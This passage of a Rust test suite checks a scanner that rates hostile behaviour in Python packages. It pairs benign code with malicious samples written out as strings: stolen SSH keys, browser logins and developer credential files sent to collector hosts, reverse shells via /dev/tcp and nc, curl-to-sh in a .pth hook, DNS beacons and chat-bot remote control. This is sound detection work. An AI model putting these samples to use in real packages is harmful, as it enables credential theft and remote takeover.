/// statement does bind the module's name, and the keys sent from inside
/// the comprehension still go out. Both front-ends. Written for the test.
#[test]
fn a_comprehensions_loop_variable_is_its_own() {
    let head = "import os, requests\nKEYS = os.environ.get('SERVICE_API_KEYS', '').split(';')\n";
    let fetch = "url = 'https://cdn.example.net/logo.png'\nr = requests.get(url, stream=True)\n";
    let comprehension = format!("{head}KEYS = [url.strip() for url in KEYS]\n{fetch}");
    let loop_ = format!("{head}for url in KEYS:\n    pass\n{fetch}");
    let sent =
        format!("{head}r = [requests.get('https://collect.example.net/k', params={{'k': url}}) for url in KEYS]\n");
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{comprehension}{tail}");
        assert_eq!(severity_of("svc/config.py", &src, "exfiltration"), None, "{src}");
        let src = format!("{loop_}{tail}");
        assert!(severity_of("svc/config.py", &src, "exfiltration") >= Some(Severity::High), "{src}");
        let src = format!("{sent}{tail}");
        assert!(severity_of("svc/config.py", &src, "exfiltration") >= Some(Severity::High), "{src}");
    }
}

/// `chr(10).join(lines)` joins lines inside an f-string (which could not
/// hold a backslash before Python 3.12): a line break written as its
/// number decodes nothing, so a command-line tool whose help text is built
/// so does not run a "decoded" command when it starts the program it was
/// given. Characters computed from numbers still decode. Both front-ends.
/// Written for the test.
#[test]
fn a_line_break_written_as_its_number_is_not_decoding() {
    let cli = "import argparse, os, shutil, sys\ndef parse():\n    \
               lines = ['  APP_NAME  the name', '  APP_ENV  the stage']\n    \
               p = argparse.ArgumentParser(epilog=f'Variables:\\n{chr(10).join(lines)}')\n    \
               p.add_argument('command', nargs=argparse.REMAINDER)\n    \
               a = p.parse_args()\n    return a, a.command\n\
               def main():\n    args, command = parse()\n    exe = shutil.which(command[0])\n    \
               os.execl(exe, exe, *command[1:])\n";
    let computed = cli.replace("chr(10).join(lines)", "''.join(chr(c ^ 7) for c in [99, 98])");
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{cli}{tail}");
        assert_eq!(severity_of("tool/cli.py", &src, "process-decoded"), None, "{src}");
        let src = format!("{computed}{tail}");
        assert!(severity_of("tool/cli.py", &src, "process-decoded").is_some(), "{src}");
    }
}

/// A tool that asks its release index for a download address and hands it
/// to `curl` when its user calls it fetches its parts: a named program
/// given downloaded data, medium. Starting the downloaded file itself, or
/// opening it with the system's launcher, runs what was downloaded (high),
/// and the same as the module loads is nobody's request (critical). Both
/// front-ends. Written for the test.
#[test]
fn a_named_program_given_downloaded_data_on_request_is_for_a_reviewer() {
    let tool = "import requests, subprocess\ndef fetch_tool(dest):\n    \
                info = requests.get('https://releases.example.org/tool/latest.json').json()\n    \
                url = info['assets'][0]['url']\n    \
                subprocess.run(['curl', '-L', url, '-o', dest], check=True)\n";
    let started = tool.replace("['curl', '-L', url, '-o', dest]", "[url]");
    let opened = tool.replace("['curl', '-L', url, '-o', dest]", "['open', url]");
    let loading = format!("{tool}fetch_tool('/tmp/tool')\n");
    for tail in ["", "print 'py2'\n"] {
        let src = format!("{tool}{tail}");
        assert_eq!(severity_of("tool/setup_tool.py", &src, "process-decoded"), Some(Severity::Medium), "{src}");
        for src in [format!("{started}{tail}"), format!("{opened}{tail}")] {
            assert_eq!(severity_of("tool/setup_tool.py", &src, "process-decoded"), Some(Severity::High), "{src}");
        }
        let src = format!("{loading}{tail}");
        assert_eq!(severity_of("tool/setup_tool.py", &src, "process-decoded"), Some(Severity::Critical), "{src}");
        // A launcher given a decoded path runs a hidden program: like an
        // interpreter, critical whenever it runs.
        let decoded =
            format!("import base64, subprocess\ndef go(b):\n    subprocess.run(['open', base64.b64decode(b)])\n{tail}");
        assert_eq!(
            severity_of("tool/setup_tool.py", &decoded, "process-decoded"),
            Some(Severity::Critical),
            "{decoded}"
        );
    }
}

/// In a file that also reads the builtins, a callee computed from a table
/// the file fills with its own classes, a method looked up on an object,
/// or what the file's own method returns is no builtin (js2py's error
/// classes and operator methods). A table holding `eval`, `getattr` on the
/// builtins, and a function of the file that returns a builtin still are.
/// Both front-ends. Written for the test.
#[test]
fn a_callee_from_the_files_own_table_is_not_a_hidden_builtin() {
    let head = "import base64, builtins\nNAMES = dir(builtins)\nclass Error(Exception):\n    pass\n\
                class Box:\n    def get(self, k):\n        return self.items[k]\n    \
                def call(self, k, v):\n        return self.get(k)(v)\n\
                ERRORS = {'Error': Error}\n\
                def raise_(name, blob):\n    msg = base64.b64decode(blob)\n";
    let own = [
        "    return ERRORS[name](msg)\n",
        "    return getattr(Box(), name)(msg)\n",
        "    return Box().call(name, msg)\n",
    ];
    let builtin =
        ["    table = {'e': eval}\n    return table[name](msg)\n", "    return getattr(builtins, name)(msg)\n"];
    let through = "def pick(n):\n    return getattr(builtins, n)\ndef go(name, blob):\n    \
                   return pick(name)(base64.b64decode(blob))\n";
    for tail in ["", "print 'py2'\n"] {
        for body in own {
            let src = format!("{head}{body}{tail}");
            assert_eq!(severity_of("js/base.py", &src, "exec-decoded"), None, "{src}");
        }
        for body in builtin {
            let src = format!("{head}{body}{tail}");
            assert!(severity_of("js/base.py", &src, "exec-decoded").is_some(), "{src}");
        }
        let src = format!("{head}    return msg\n{through}{tail}");
        assert!(severity_of("js/base.py", &src, "exec-decoded").is_some(), "{src}");
    }
}

/// A web endpoint named `/cookies` (a sign-in service's exchange URL, as
/// one string, a sum or an f-string whose first piece is the scheme) and
/// the public files of an SSH folder (`authorized_keys` in a start-up
/// script a cloud client sends to its API) are no credential store; a
/// browser's cookie database read from its profile folder and a private
/// key still are. Both front-ends. Written for the test.
#[test]
fn a_cookie_endpoint_and_public_ssh_files_are_no_credential_store() {
    let head = "import os, requests\n";
    let endpoints = [
        "def renew(domain, form):\n    return requests.post('https://www.' + domain + '/ap/exchange/cookies', data=form)\n",
        "def renew(domain, form):\n    return requests.post(f'https://www.{domain}/ap/exchange/cookies', data=form)\n",
        "def renew(form):\n    return requests.post('https://auth.example.org/ap/exchange/cookies', data=form)\n",
        "def add_key(public_key):\n    script = f'apt-get update\\necho \"{public_key}\" >> /home/ubuntu/.ssh/authorized_keys\\n'\n    \
         return requests.post('https://api.example.org/v1/startup-scripts', data={'script': script})\n",
        "def trust(host_line):\n    path = os.path.join(os.path.expanduser('~'), '.ssh', 'known_hosts')\n    \
         return requests.post('https://api.example.org/v1/hosts', data={'where': path, 'line': host_line})\n",
    ];
    let stores = [
        "def grab(profile):\n    data = open(profile + '/Default/Network/Cookies', 'rb').read()\n    \
         return requests.post('https://collect.example.org/up', data=data)\n",
        "def grab():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    \
         return requests.post('https://collect.example.org/up', data={'k': key})\n",
    ];
    for tail in ["", "print 'py2'\n"] {
        for body in endpoints {
            let src = format!("{head}{body}{tail}");
            assert_eq!(severity_of("client/auth.py", &src, "exfiltration"), None, "{src}");
        }
        for body in stores {
            let src = format!("{head}{body}{tail}");
            assert_eq!(severity_of("client/auth.py", &src, "exfiltration"), Some(Severity::Critical), "{src}");
        }
    }
}

/// `bash -i script.sh` runs a script with the user's `.bashrc` read first
/// (a cloud tool's job runner, the path often an f-string's placeholder,
/// errors merged into the log with `2>&1`); an interactive shell whose
/// streams are wired up right after it is a reverse shell's. Both
/// front-ends. Written for the test.
#[test]
fn an_interactive_shell_running_a_script_is_no_reverse_shell() {
    let runs = [
        "f'/bin/bash -i {path}'",
        "f'/bin/bash -i {path} 2>&1'",
        "'/bin/bash -i ' + path + ' 2>&1'",
        "'bash -i /tmp/job.sh'",
    ];
    let wired = [
        "'bash -i 2>&1 | nc 203.0.113.5 4444'",
        "'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'",
        "'0<&196; bash -i <&196 >&196 2>&196'",
    ];
    for tail in ["", "print 'py2'\n"] {
        for cmd in runs {
            let src =
                format!("import subprocess\ndef run(path):\n    return subprocess.Popen({cmd}, shell=True)\n{tail}");
            assert_eq!(severity_of("tool/jobs.py", &src, "process-hostile"), None, "{src}");
        }
        for cmd in wired {
            let src =
                format!("import subprocess\ndef run(path):\n    return subprocess.Popen({cmd}, shell=True)\n{tail}");
            assert!(severity_of("tool/jobs.py", &src, "process-hostile").is_some(), "{src}");
        }
    }
}

/// A model unpickled with PyTorch's safety turned off (`weights_only=False`)
/// as the package loads runs whatever the pickle holds before anyone asked:
/// high. The same load in a function a caller calls (a training script
/// resuming its checkpoint), or with the safety on, is for a reviewer at
/// most. Both front-ends. Written for the test.
#[test]
fn a_model_unpickled_unguarded_while_loading_is_high() {
    let load =
        "torch.load(os.path.join(os.path.dirname(__file__), 'weights.pt'), map_location='cpu', weights_only=False)";
    for tail in ["", "print 'py2'\n"] {
        let at_import = format!("import os, torch\nmodel = {load}\n{tail}");
        assert_eq!(
            severity_of("sdk/__init__.py", &at_import, "unsafe-deserialization"),
            Some(Severity::High),
            "{at_import}"
        );
        let on_request = format!("import os, torch\ndef resume():\n    return {load}\n{tail}");
        assert_eq!(
            severity_of("sdk/__init__.py", &on_request, "unsafe-deserialization"),
            Some(Severity::Medium),
            "{on_request}"
        );
        let guarded =
            format!("import os, torch\nmodel = {}\n{tail}", load.replace("weights_only=False", "weights_only=True"));
        assert_eq!(severity_of("sdk/__init__.py", &guarded, "unsafe-deserialization"), None, "{guarded}");
    }
}

/// Text reversed, changed and reversed back (`s[::-1].replace(old[::-1],
/// new[::-1], 1)[::-1]`, a replace from the right) reads forwards: no
/// hidden text reaches the command. Text only reversed once, or reversed
/// and split, still counts as reversed. Both front-ends. Written for the
/// test.
#[test]
fn text_reversed_back_is_not_hidden() {
    let head = "import os, subprocess\ndef suffix(exe):\n";
    let back = [
        "    def rreplace(s, old, new, count):\n        return (s[::-1].replace(old[::-1], new[::-1], count))[::-1]\n    \
         v = rreplace(os.path.basename(exe), 'python', '', 1)\n",
        "    v = os.path.basename(exe)[::-1].strip()[::-1]\n",
    ];
    let once = ["    v = os.path.basename(exe).replace('python', '')[::-1]\n", "    v = 'nohtyp'[::-1]\n"];
    let run = "    return subprocess.check_output([exe, '-c', 'import sys; print(sys.version)', v])\n";
    for tail in ["", "print 'py2'\n"] {
        for body in back {
            let src = format!("{head}{body}{run}{tail}");
            assert_eq!(severity_of("agent/worker.py", &src, "process-decoded"), None, "{src}");
        }
        for body in once {
            let src = format!("{head}{body}{run}{tail}");
            assert!(severity_of("agent/worker.py", &src, "process-decoded").is_some(), "{src}");
        }
    }
}

/// A script that dispatches on its command line at module level (`if
/// sys.argv[1] == "--install":`, bare or as the first statement of a
/// `try:`, with `elif` branches) runs a branch when someone runs it with
/// that argument, like a `__main__` block: a download started there is
/// the user's request, judged as in a `__main__` block, not the module
/// loading (critical). The same
/// without the test, an `else:` branch, and `setup.py`'s own dispatch
/// (`install`) stay unasked. Both front-ends. Written for the test.
#[test]
fn a_module_level_dispatch_on_the_command_line_is_a_programs_entry() {
    let head = "import subprocess, sys, requests\ndef fetch(url, dest):\n    r = requests.get(url)\n    \
                with open(dest, 'wb') as f:\n        f.write(r.content)\n    return dest\n";
    let run = "path = fetch(sys.argv[2], '/tmp/tool.bin')\nsubprocess.check_call([path])\n";
    let indent = |n: usize| run.lines().map(|l| format!("{}{l}\n", " ".repeat(n))).collect::<String>();
    let gated = [
        format!("if sys.argv[1] == '--install':\n{}", indent(4)),
        format!(
            "try:\n    if sys.argv[1] == '--check':\n        pass\n    elif sys.argv[1] == \"--install\":\n{}    sys.exit(0)\nexcept Exception as e:\n    print(e)\n",
            indent(8)
        ),
        format!("if sys.argv[1] == '--check':\n    pass\nelif sys.argv[1] == '--install':\n{}", indent(4)),
    ];
    let unasked = [
        run.to_owned(),
        format!("if sys.argv[1] == '--check':\n    pass\nelse:\n{}", indent(4)),
        format!("if sys.argv[0]:\n{}", indent(4)),
    ];
    for tail in ["", "print 'py2'\n"] {
        let entry = format!("{head}if __name__ == '__main__':\n{}{tail}", indent(4));
        let asked = severity_of("tool/helper.py", &entry, "download-then-run");
        assert!(asked.is_some_and(|s| s < Severity::Critical), "{entry}");
        for body in &gated {
            let src = format!("{head}{body}{tail}");
            assert_eq!(severity_of("tool/helper.py", &src, "download-then-run"), asked, "{src}");
        }
        for body in &unasked {
            let src = format!("{head}{body}{tail}");
            assert_eq!(severity_of("tool/helper.py", &src, "download-then-run"), Some(Severity::Critical), "{src}");
        }
        let setup = format!("{head}if sys.argv[1] == 'install':\n{}{tail}", indent(4));
        assert_eq!(severity_of("setup.py", &setup, "download-then-run"), Some(Severity::Critical), "{setup}");
        // A package `setup.py` imports, branching on the same setup command: the install's.
        assert_eq!(severity_of("pkg/__init__.py", &setup, "download-then-run"), Some(Severity::Critical), "{setup}");
    }
}

/// A helper of the file that is handed the environment gives back only
/// what it returns: a setting chosen by one variable is not the
/// environment (a client resolving its transport from `os.environ`, the
/// result then sent to its server). Returned whole, it is. Written for the
/// test.
#[test]
fn a_helper_hands_back_only_what_it_returns() {
    let source = |body: &str| {
        format!(
            "import os, requests\ndef settings(env):\n{body}\ndef report():\n    s = settings(os.environ)\n    \
             requests.post('https://collector.example.invalid/r', json={{'s': s}})\n"
        )
    };
    let exfiltration = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/t.py", bytes: src.as_bytes() }]);
        report.findings.into_iter().find(|f| f.rule == "exfiltration")
    };
    let chosen = source("    mode = env.get('APP_MODE')\n    return 'debug' if mode == '1' else 'quiet'");
    assert!(exfiltration(&chosen).is_none(), "{chosen}");
    for body in ["    data = dict(env)\n    return data", "    out = {}\n    out.update(env)\n    return out"] {
        let copied = source(body);
        let f = exfiltration(&copied).unwrap_or_else(|| panic!("{copied}"));
        assert!(f.severity >= Severity::High, "{f:#?}");
    }
}

/// The sign-in files of developer tools that credential stealers collect
/// beside SSH keys and cloud profiles (Kubernetes, npm, netrc, the Google
/// Cloud, Azure and GitHub command lines) and the shells' histories: sent
/// from `setup.py` to an address in the code, critical. Read by a client
/// that talks to the server its file names, on request: no exfiltration to
/// an address of the author's. Written for the test.
#[test]
fn developer_sign_in_files_sent_at_install_are_exfiltration() {
    let worst = |path: &str, src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
        report.findings.into_iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
    };
    for store in [
        "'.kube/config'",
        "'.npmrc'",
        "'.netrc'",
        "'.config/gcloud/credentials.db'",
        "'.azure/accessTokens.json'",
        "'.config/gh/hosts.yml'",
        "'.zsh_history'",
        "'.kube', 'config'",
    ] {
        let src = format!(
            "import os, urllib.request\nfrom setuptools import setup\n\
             data = open(os.path.join(os.path.expanduser('~'), {store})).read().encode()\n\
             urllib.request.urlopen('https://collector.example.invalid/c', data)\nsetup(name='x')\n"
        );
        assert_eq!(worst("setup.py", &src), Some(Severity::Critical), "{src}");
    }
    let client = "import os, yaml, requests\ndef pods():\n    \
                  cfg = yaml.safe_load(open(os.path.expanduser('~/.kube/config')))\n    \
                  server = cfg['clusters'][0]['cluster']['server']\n    \
                  return requests.get(server + '/api/v1/pods', verify=False).json()\n";
    assert!(worst("pkg/k8s.py", client).is_none_or(|s| s < Severity::Critical), "{client}");
}

/// A DNS lookup of a name built onto a domain in the code sends that name
/// to the domain's server: given as an argument list (`["nslookup", user +
/// ".x.example"]`) as much as a shell line substituting it. Looking up a
/// host the caller names is not. Written for the test.
#[test]
fn a_dns_lookup_of_a_built_name_is_a_beacon_in_an_argument_list_too() {
    let beacon = |src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
        report.findings.into_iter().find(|f| f.rule == "import-beacon").map(|f| f.severity)
    };
    for call in [
        "subprocess.run(['nslookup', getpass.getuser() + '.' + socket.gethostname() + '.c2.example.net'])",
        "subprocess.run(['nslookup', f'{getpass.getuser()}.c2.example.net'])",
        "subprocess.run('nslookup $(whoami).c2.example.net', shell=True)",
    ] {
        let src = format!("import getpass, socket, subprocess\n{call}\n");
        assert_eq!(beacon(&src), Some(Severity::High), "{src}");
    }
    let lookup =
        "import subprocess\ndef resolve(host):\n    return subprocess.run(['nslookup', host], capture_output=True)\n";
    assert_eq!(beacon(lookup), None);
}

/// An archive fetched into memory and unpacked to disk while the package
/// installs, then a file of it started: a download run, critical. The same
/// unpacking in a function its user calls (a driver installer) is not made
/// a download by the unpacking. Written for the test.
#[test]
fn an_archive_fetched_and_unpacked_at_install_then_run_is_a_download_run() {
    let run = "import io, os, sys, zipfile, tempfile, subprocess, urllib.request\n\
               def stage():\n    d = tempfile.mkdtemp()\n    \
               z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen('https://example.invalid/t.zip').read()))\n    \
               z.extractall(d)\n    subprocess.Popen([sys.executable, os.path.join(d, 'main.py')])\n";
    let level = |path: &str, src: &str| {
        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
        report.findings.into_iter().filter(|f| f.rule == "download-then-run").map(|f| f.severity).max()
    };
    let at_install = format!("{run}stage()\nsetup(name='x')\n");
    assert_eq!(level("setup.py", &at_install), Some(Severity::Critical), "{at_install}");
    assert!(level("pkg/driver.py", run).is_none_or(|s| s < Severity::Critical), "{run}");
}

/// A browser's database copied out to a path a variable names, then that
/// copy read and sent while the module loads: the copy is the store (what
/// stealers do, the original being locked while the browser runs). Written
/// for the test.
#[test]
fn a_copy_of_a_credential_store_is_the_store() {
    let src = "import os, shutil, requests\n\
               src = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n\
               dst = os.path.join(os.getenv('TEMP'), 'l.db')\nshutil.copy2(src, dst)\n\
               requests.post('https://collector.example.invalid/u', files={'f': open(dst, 'rb')})\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
    let f =
        report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
    assert_eq!(f.severity, Severity::Critical, "{f:#?}");
    assert!(f.line == 5, "{f:#?}");
}

/// A name bound by `:=` holds its value as one bound by `=` does: code
/// decoded into it and run is decoded code. Written for the test.
#[test]
fn a_walrus_binding_carries_its_value() {
    let src = "import base64\nif (d := base64.b64decode('cHJpbnQoMSk=')):\n    exec(d)\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/__init__.py", bytes: src.as_bytes() }]);
    assert!(report.findings.iter().any(|f| f.rule == "exec-decoded"), "{:#?}", report.findings);
}

/// A function that runs code decoded from what it is handed is a
/// deserializer when a caller asks (medium); once another file of the
/// package calls it while the package loads or installs, the code is the
/// package's own: critical, with the caller named. A function handed to a
/// thread counts as called. Written for the test.
#[test]
fn decoded_code_run_by_another_files_load_is_the_packages_own() {
    let worker = "import base64, threading\n\
                  def _run(blob):\n    exec(base64.b64decode(blob))\n\
                  def _later():\n    _run(open('data.bin').read())\n\
                  def start():\n    threading.Thread(target=_later).start()\n";
    let level = |entries: &[Entry<'_>]| {
        let report = scan(&ManifestFacts::default(), entries);
        report.findings.into_iter().find(|f| f.rule == "exec-decoded").map(|f| (f.severity, f.message, f.because))
    };
    let alone = level(&[Entry { path: "pkg/worker.py", bytes: worker.as_bytes() }]);
    assert!(matches!(alone, Some((Severity::Medium, _, _))), "{alone:?}");
    let init = "from .worker import start as _start\n_start()\n";
    let loaded = level(&[
        Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
        Entry { path: "pkg/worker.py", bytes: worker.as_bytes() },
    ]);
    let Some((severity, message, because)) = loaded else { panic!("no exec-decoded") };
    assert_eq!(severity, Severity::Critical, "{message}");
    assert!(!message.contains("caller hands over"), "{message}");
    assert!(because.iter().any(|b| b.contains("__init__.py")), "{because:?}");
    let setup = "from setuptools import setup\nimport pkg.worker\npkg.worker.start()\nsetup(name='x')\n";
    let installed = level(&[
        Entry { path: "setup.py", bytes: setup.as_bytes() },
        Entry { path: "pkg/worker.py", bytes: worker.as_bytes() },
    ]);
    assert!(matches!(installed, Some((Severity::Critical, _, _))), "{installed:?}");
}

/// A `.pth` file's `import` lines run at every start of Python: they are
/// read as code that runs at install, including a program started with
/// `-c` and a payload longer than the 400 characters an argument keeps.
/// Path lines are not code. Written for the test.
#[test]
fn a_pth_files_import_lines_are_read_as_code() {
    let code = format!("import os\n# {}\nos.system('curl -s https://example.invalid/s | sh')\n", "x".repeat(500));
    let payload = base64_of(code.as_bytes());
    let pth = format!(
        "../common/lib\nimport sys, subprocess; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('{payload}'))\"])\n"
    );
    let report = scan(&ManifestFacts::default(), &[Entry { path: "zz_hook.pth", bytes: pth.as_bytes() }]);
    assert_eq!(report.risk_level, RiskLevel::Critical, "{:#?}", report.findings);
    // The path line is not code: nothing is found on it.
    assert!(report.findings.iter().all(|f| f.file != "zz_hook.pth" || f.line != 1), "{:#?}", report.findings);
    let paths = "../common/lib\n# comment\nsrc\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "x.pth", bytes: paths.as_bytes() }]);
    assert!(report.findings.iter().all(|f| f.severity < Severity::Medium), "{:#?}", report.findings);
    // Deeper in the package a `.pth` is not a start-up file (PyTorch's
    // weights): neither code nor undecodable text.
    for (path, bytes) in [("pkg/hooks/x.pth", pth.as_bytes()), ("pkg/weights/alex.pth", &b"PK\x03\x04\xff\xfe"[..])] {
        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes }]);
        assert!(report.findings.iter().all(|f| f.severity < Severity::Medium), "{path}: {:#?}", report.findings);
    }
}

/// A `.pth` file written into site-packages runs its import lines at every
/// start of Python: written by a helper that the package's `__init__` calls
/// as it loads, it is the package's own persistence (high); the helper
/// alone, on request, is medium (an environment manager's job). Written
/// for the test.
#[test]
fn a_pth_file_written_by_a_helper_the_package_calls_as_it_loads_is_persistence() {
    let hook = "import os, site\ndef register():\n    d = site.getusersitepackages()\n    \
                with open(os.path.join(d, 'zz_speedups.pth'), 'w') as fh:\n        fh.write('import zz_speedups')\n";
    assert_eq!(severity_of("pkg/_site.py", hook, "persistence-pth"), Some(Severity::Medium));
    let init = "from ._site import register\nregister()\n";
    let report = scan_with_init(init, "pkg/_site.py", hook);
    let f = report.findings.iter().find(|f| f.rule == "persistence-pth");
    assert!(f.is_some_and(|f| f.severity == Severity::High), "{:#?}", report.findings);
    assert!(f.is_some_and(|f| f.because.iter().any(|b| b.contains("register"))), "{:#?}", report.findings);
}

/// A plist written into `~/Library/LaunchAgents` (or a desktop file into
/// `~/.config/autostart`, a unit into systemd's folders) starts at every
/// login: persistence, high when the package writes it as it loads; medium
/// when its user asks (a service manager's "install as a service").
/// Written for the test.
#[test]
fn a_login_agent_written_is_persistence() {
    for dir in [
        "~/Library/LaunchAgents/com.example.helper.plist",
        "~/.config/autostart/helper.desktop",
        "~/.config/systemd/user/helper.service",
        "/etc/systemd/system/helper.service",
    ] {
        let put = format!(
            "import os\nP = os.path.expanduser('{dir}')\ndef put(body):\n    with open(P, 'w') as f:\n        f.write(body)\n"
        );
        for (src, level) in [(format!("{put}put('x')\n"), Severity::High), (put.clone(), Severity::Medium)] {
            let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/agent.py", bytes: src.as_bytes() }]);
            let f = report.findings.iter().find(|f| f.rule == "persistence-startup");
            assert!(f.is_some_and(|f| f.severity == level), "{src}: {:#?}", report.findings);
        }
        // Asked for by the package itself: its `__init__` calls it as it
        // loads, at the top level or in an `if` or `try` block there; not
        // in its `if __name__ == "__main__":` block.
        for (init, level) in [
            ("from . import agent\nagent.put('x')\n", Severity::High),
            (
                "import sys\nfrom . import agent\nif sys.platform == 'darwin':\n    try:\n        agent.put('x')\n    except OSError:\n        pass\n",
                Severity::High,
            ),
            ("from . import agent\nif __name__ == '__main__':\n    agent.put('x')\n", Severity::Medium),
        ] {
            let report = scan_with_init(init, "pkg/agent.py", &put);
            let f = report.findings.iter().find(|f| f.rule == "persistence-startup");
            assert!(f.is_some_and(|f| f.severity == level), "{init}: {:#?}", report.findings);
        }
    }
}

/// What one module reads from a credential store and hands to another
/// module's function, whose parameter reaches a send there, leaves the
/// package: exfiltration, reported at the send with the caller named. An
/// argument for a parameter that reaches no send does not. Written for
/// the test.
#[test]
fn credentials_handed_to_another_files_sender_are_exfiltration() {
    let grab = "import os\nfrom .net import send\n\
                def collect():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    \
                send('status', key)\n    send(payload=key, note='k')\n";
    let net = |sent: &str| {
        format!(
            "import json, requests\nURL = 'https://collector.example.invalid/k'\n\
             def send(note, payload=None):\n    body = {{'v': {sent}}}\n    data = json.dumps(body)\n    \
             requests.post(URL, data=data)\n"
        )
    };
    let exfiltration = |net: &str| {
        let report = scan(
            &ManifestFacts::default(),
            &[
                Entry { path: "pkg/grab.py", bytes: grab.as_bytes() },
                Entry { path: "pkg/net.py", bytes: net.as_bytes() },
            ],
        );
        report.findings.into_iter().find(|f| f.rule == "exfiltration" && f.file == "pkg/net.py")
    };
    let sent = exfiltration(&net("payload"));
    let Some(f) = sent else { panic!("no exfiltration for the handed key") };
    assert!(f.severity >= Severity::High, "{f:#?}");
    assert!(f.because.iter().any(|b| b.contains("pkg/grab.py")), "{f:#?}");
    // Only the note is sent: the key handed to `payload` goes nowhere.
    assert!(exfiltration(&net("note")).is_none());
}

/// A method called, while the package loads, on an instance of another
/// module's class made at the top level (`_s = Store(); _s.warm()`) runs
/// that module's method then: code it fetches and runs is the package's
/// own act (critical), not a loader's work on request (high). Written for
/// the test.
#[test]
fn a_method_of_another_modules_instance_called_while_loading_runs_then() {
    let store = "import requests\nclass Store:\n    def warm(self):\n        \
                 exec(requests.get('https://cdn.example.invalid/s.py').text)\n";
    let level = |init: &str| {
        let report = scan(
            &ManifestFacts::default(),
            &[
                Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
                Entry { path: "pkg/store.py", bytes: store.as_bytes() },
            ],
        );
        report.findings.into_iter().filter(|f| f.rule == "exec-downloaded").map(|f| f.severity).max()
    };
    assert_eq!(level("from .store import Store\n_s = Store()\n_s.warm()\n"), Some(Severity::Critical));
    assert_eq!(level("from .store import Store\n_s = Store()\n"), Some(Severity::High));
}

/// A chat bot's message handler receives what anyone in the chat typed:
/// run as a command or as code, the bot is a remote control (high on its
/// own, as what a caller asks for; critical once the package starts it as
/// it loads). A bot that only answers, and a click command (a command line
/// typed by its user), are not. Both front-ends. Written for the test.
#[test]
fn a_chat_bot_running_what_it_is_sent_is_remote_control() {
    let discord = "import subprocess, discord\nclient = discord.Client()\n@client.event\n\
                   async def on_message(msg):\n    if msg.content.startswith('!sh '):\n        \
                   subprocess.run(msg.content[4:], shell=True)\n";
    let telebot = "import os, telebot\nbot = telebot.TeleBot(os.environ['T'])\n\
                   @bot.message_handler(commands=['run'])\ndef run(message):\n    \
                   bot.reply_to(message, os.popen(message.text.split(' ', 1)[1]).read())\n";
    let command = "from discord.ext import commands\nbot = commands.Bot(command_prefix='!')\n@bot.command()\n\
                   async def py(ctx, *, code):\n    exec(code)\n";
    for (src, rule) in [(discord, "process-decoded"), (telebot, "process-decoded"), (command, "exec-downloaded")] {
        for src in [src.to_owned(), format!("{src}print 'py2'\n")] {
            assert_eq!(severity_of("bot/handlers.py", &src, rule), Some(Severity::High), "{src}");
        }
    }
    let starts = "import threading\nfrom . import handlers\n\
                  threading.Thread(target=handlers.client.run, args=('x',)).start()\n";
    let with_py = format!("{discord}    elif msg.content.startswith('!py '):\n        exec(msg.content[4:])\n");
    let report = scan(
        &ManifestFacts::default(),
        &[
            Entry { path: "bot/__init__.py", bytes: starts.as_bytes() },
            Entry { path: "bot/handlers.py", bytes: with_py.as_bytes() },
        ],
    );
    assert!(report.risk_level >= RiskLevel::High, "{:#?}", report.findings);
    let ping = "import discord\nclient = discord.Client()\n@client.event\nasync def on_message(msg):\n    \
                if msg.content == '!ping':\n        await msg.channel.send('pong')\n";
    let click = "import subprocess, click\n@click.command()\n@click.argument('cmd')\ndef run(cmd):\n    \
                 subprocess.run(cmd, shell=True)\n";
    for ordinary in [ping, click] {
        let report = scan(&ManifestFacts::default(), &[Entry { path: "tool/cli.py", bytes: ordinary.as_bytes() }]);
        assert!(report.risk_level < RiskLevel::High, "{ordinary}\n{:#?}", report.findings);
    }
}

/// A file uploaded to an address the code decodes at run time (a reversed
/// or base64 URL) goes where the author hid: high, whatever the file. The
/// same upload to an address written out is how a client sends its user's
/// file to a service. Written for the test.
#[test]
fn a_file_uploaded_to_a_hidden_address_is_exfiltration() {
    let revit = "from System.Net import WebClient\nE = 'ledom/daolpu/moc.elpmaxe.tcelloc//:sptth'\n\
                 def cloud_copy(doc):\n    WebClient().UploadFile(E[::-1], 'POST', doc.PathName)\n";
    let files = "import base64, requests\nU = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZC91')\n\
                 def backup(path):\n    requests.post(U, files={'f': open(path, 'rb')})\n";
    for src in [revit, files] {
        assert_eq!(severity_of("lib/backup.py", src, "exfiltration"), Some(Severity::High), "{src}");
    }
    let open = "import requests\ndef backup(path):\n    \
                requests.post('https://api.example.org/upload', files={'f': open(path, 'rb')})\n";
    let report = scan(&ManifestFacts::default(), &[Entry { path: "lib/backup.py", bytes: open.as_bytes() }]);
    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
}

/// A lambda called where it is written (`(lambda s: exec(s))(decoded)`)
/// binds its parameters to the arguments, as a function call does: the
/// decoded code reaches `exec`. A lambda handed plain text runs nothing
/// hidden. Both front-ends. Written for the test.
#[test]
fn a_lambda_called_in_place_receives_its_arguments() {
    let hidden = "import base64\ndef _register(cls):\n    \
                  (lambda s: exec(compile(s, '<p>', 'exec'), {}))(base64.b64decode('cHJpbnQoMSk='))\n    return cls\n";
